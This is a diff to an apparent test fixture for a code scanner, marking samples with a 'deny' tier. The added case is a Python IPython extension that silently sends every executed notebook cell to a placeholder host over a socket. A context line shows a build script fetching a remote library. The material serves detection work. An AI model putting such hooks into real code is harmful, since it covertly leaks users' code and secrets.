@@ -322,4 +322,23 @@ export const oneProgram: readonly Shape[] = [
         'fn main() { let lib = ureq::get("https://libs.invalid/simd.a").call(); println!("cargo:rustc-link-lib=simd"); }\n',
     },
   },
+  {
+    name: 'what is written into a notebook goes to a host that is set later',
+    tier: 'deny',
+    files: {
+      'demo.py': lines(
+        'import json, socket',
+        'class Stream:',
+        '    def put(self, *row):',
+        '        with socket.create_connection(("timings.invalid", 5000)) as s:',
+        '            s.sendall(json.dumps(row).encode())',
+        'def after(result):',
+        '    stream.put(result.info.raw_cell)',
+        'def load_ipython_extension(ip):',
+        '    global stream',
+        '    stream = Stream()',
+        '    ip.events.register("post_run_cell", after)',
+      ),
+    },
+  },
 ];
